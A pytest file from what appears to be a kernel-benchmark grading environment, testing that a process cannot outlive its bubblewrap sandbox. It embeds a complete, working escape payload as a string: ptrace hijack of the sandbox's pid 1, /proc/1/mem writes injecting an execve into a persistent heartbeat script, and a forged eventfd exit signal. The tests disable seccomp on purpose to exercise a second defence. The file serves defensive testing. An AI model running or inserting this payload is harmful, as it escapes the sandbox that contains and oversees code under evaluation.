"""Attack: code in the sandbox takes over bubblewrap's pid 1 (same uid, dumpable): it ptraces it, clears its
parent-death signal, copies bwrap's eventfd out of it (pidfd_getfd) and makes it exec a script that never exits (a
heartbeat file every 0.5 s), then writes 1 to the eventfd: the outer bwrap takes it for the command's exit and
exits, leaving pid 1 running outside bwrap's process group and parentage. Found by adversarial reviews
(2026-11-29); needs x86-64 and ptrace of an ancestor allowed (no Yama, or Yama 0), else the tests skip.

Defence: `pidfd_kill_sandbox_init` (bwrap reports its pid 1, and the env kills it by a pidfd: killing a pid
namespace's init kills everything in it). The tests run the sandbox without the seccomp filter and with pid 1's
memory unmasked, which refuse the hijack's ptrace and its writes to /proc/1/mem on their own
(`seccomp_process_access`: ptrace_from_sandbox.py; `pid1_memory_masked`: write_pid1_memory.py): they test the
kill that still holds where the filter cannot be built.
Honest twin: the grading in which the attack runs is the baseline's, and a shell command's: nothing outlives either.

`HIJACK_PID1` is the payload, prepended to a kernel or run as a script; it is a string so that collecting this
file never runs it.
"""
import os
import sys
import time

import pytest

from kernelgym.discovery import get_task
from kernelgym.grader import Grader, GraderConfig
from kernelgym.hardware import detect_profile

TASK = get_task("triton-rmsnorm")
BASELINE = (TASK.root / "kernel.py").read_text()

HIJACK_PID1 = r'''import ctypes as _ct, os as _os, sys as _sys, struct as _st
def _hijack():
    _d = _os.path.dirname(_os.path.abspath(__file__))
    _log = open(_os.path.join(_d, "hijack.log"), "a")
    def L(*a): print(*a, file=_log, flush=True)
    _persist = _os.path.join(_d, "persist.py")
    with open(_persist, "w") as f:
        f.write("import os, time\n"
                "d = os.path.dirname(os.path.abspath(__file__))\n"
                "n = 0\n"
                "while True:\n"
                "    n += 1\n"
                "    open(os.path.join(d, 'heartbeat.txt'), 'w').write(f'{n} {time.time()} pid={os.getpid()}\\n')\n"
                "    try:\n"
                "        while os.waitpid(-1, os.WNOHANG)[0] > 0: pass\n"
                "    except ChildProcessError: pass\n"
                "    time.sleep(0.5)\n")
    libc = _ct.CDLL(None, use_errno=True)
    libc.ptrace.restype = _ct.c_long
    libc.ptrace.argtypes = [_ct.c_long, _ct.c_long, _ct.c_void_p, _ct.c_void_p]
    class Regs(_ct.Structure):
        _fields_ = [(n, _ct.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
                                                    "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
    if libc.ptrace(16, 1, None, None) != 0:  # PTRACE_ATTACH
        L("attach failed", _os.strerror(_ct.get_errno())); return
    _os.waitpid(1, 0x40000000)  # __WALL
    regs = Regs(); libc.ptrace(12, 1, None, _ct.byref(regs))  # GETREGS
    saved = Regs(); _ct.memmove(_ct.byref(saved), _ct.byref(regs), _ct.sizeof(Regs))
    mem = open("/proc/1/mem", "r+b", buffering=0)
    mem.seek(regs.rip - 2); ins = mem.read(2)
    L("pid1 rip", hex(regs.rip), "prev bytes", ins.hex(), "orig_rax", regs.orig_rax)
    sc = regs.rip - 2
    if ins != b"\x0f\x05":
        L("no syscall insn before rip"); libc.ptrace(17, 1, None, None); return
    def syscall(nr, a=0, b=0, c=0):
        r = Regs(); _ct.memmove(_ct.byref(r), _ct.byref(saved), _ct.sizeof(Regs))
        r.rax, r.rdi, r.rsi, r.rdx, r.rip, r.orig_rax = nr, a, b, c, sc, 0xffffffffffffffff
        libc.ptrace(13, 1, None, _ct.byref(r))  # SETREGS
        libc.ptrace(9, 1, None, None)  # SINGLESTEP
        _os.waitpid(1, 0x40000000)
        out = Regs(); libc.ptrace(12, 1, None, _ct.byref(out))
        return _ct.c_longlong(out.rax).value
    L("prctl(PR_SET_PDEATHSIG, 0) ->", syscall(157, 1, 0))
    libc.syscall.restype = _ct.c_long
    _pfd = libc.syscall(434, 1, 0)  # pidfd_open(1)
    _efd = libc.syscall(438, _pfd, 4, 0)  # pidfd_getfd(pidfd, 4): bwrap's eventfd
    L("pidfd", _pfd, "eventfd copy", _efd, _os.readlink("/proc/self/fd/%d" % _efd) if _efd >= 0 else _os.strerror(_ct.get_errno()))
    global _EFD; _EFD = _efd
    # strings and argv on pid 1's stack, well below its rsp
    base = (saved.rsp - 8192) & ~0xf
    strs = [_sys.executable.encode() + b"\0", _persist.encode() + b"\0"]
    blob, ptrs, off = b"", [], 64
    for s in strs:
        ptrs.append(base + off + len(blob)); blob += s
    argv = _st.pack("<3Q", ptrs[0], ptrs[1], 0)
    envp = _st.pack("<Q", 0)
    mem.seek(base); mem.write(argv + envp)
    mem.seek(base + 64); mem.write(blob)
    r = Regs(); _ct.memmove(_ct.byref(r), _ct.byref(saved), _ct.sizeof(Regs))
    r.rax, r.rdi, r.rsi, r.rdx, r.rip, r.orig_rax = 59, ptrs[0], base, base + 24, sc, 0xffffffffffffffff
    libc.ptrace(13, 1, None, _ct.byref(r))
    libc.ptrace(9, 1, None, None)
    _os.waitpid(1, 0x40000000)
    libc.ptrace(17, 1, None, None)  # DETACH, no signal
    L("execve injected; detached")
    _os.write(_EFD, _st.pack("<Q", 1))  # outer bwrap reads "exit code 0" and exits; pid 1 lives on
    L("eventfd written")
try:
    _hijack()
except Exception as _e:
    import traceback as _tb
    open(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "hijack.log"), "a").write(_tb.format_exc())
# --- end of attack prefix (v2) ---
'''


def _processes_mentioning(text):
    pids = []
    for d in os.listdir("/proc"):
        try:
            if d.isdigit() and text in open(f"/proc/{d}/cmdline").read():
                pids.append(int(d))
        except OSError:
            pass
    return pids


def _without_seccomp(monkeypatch):
    """Sandboxes started from here on run without the seccomp filter and with pid 1's memory unmasked, which
    refuse the hijack's ptrace and its writes to /proc/1/mem (ptrace_from_sandbox.py, write_pid1_memory.py): the
    hijack tests test the second defence, the kill of the sandbox's pid 1 by pidfd."""
    from kernelgym import sandbox, seccomp
    monkeypatch.setattr(seccomp, "program_fd", lambda: None)
    monkeypatch.setattr(sandbox, "PID1_MEMORY_MASK", [])


def _assert_nothing_outlives(run, directory):
    """Call `run`, in which the hijack attack runs from `directory`; then no process may still mention it."""
    try:
        run()
        log = (directory / "hijack.log").read_text() if (directory / "hijack.log").exists() else ""
        if "execve injected" not in log:
            pytest.skip(f"the attack could not run here (ptrace of an ancestor refused?): {log[-300:]}")
        deadline = time.monotonic() + 10
        while _processes_mentioning(str(directory)) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not _processes_mentioning(str(directory)), f"a process from {directory} outlived its sandbox"
    finally:
        for pid in _processes_mentioning(str(directory)):
            os.kill(pid, 9)


@pytest.mark.timeout(180)
def test_a_hijacked_sandbox_init_does_not_outlive_the_grading(tmp_path, require_bwrap, monkeypatch, make_workspace):
    ws = make_workspace(HIJACK_PID1 + "\n" + BASELINE)
    grader = Grader(TASK, detect_profile("cpu-interpreter"), tmp_path / "grading", GraderConfig(timeout_s=60.0))
    _without_seccomp(monkeypatch)
    grader.start_worker(seed=7)
    _assert_nothing_outlives(lambda: grader.grade(ws, seed=7), grader._prepared.gdir)


@pytest.mark.timeout(120)
def test_a_hijacked_sandbox_init_does_not_outlive_a_shell_command(tmp_path, require_bwrap, monkeypatch):
    from kernelgym.sandbox import BubblewrapSandbox, Limits
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "attack.py").write_text(HIJACK_PID1)
    _without_seccomp(monkeypatch)
    _assert_nothing_outlives(
        lambda: BubblewrapSandbox(ws).run(f"{sys.executable} attack.py; sleep 100", limits=Limits(timeout_s=30)), ws)
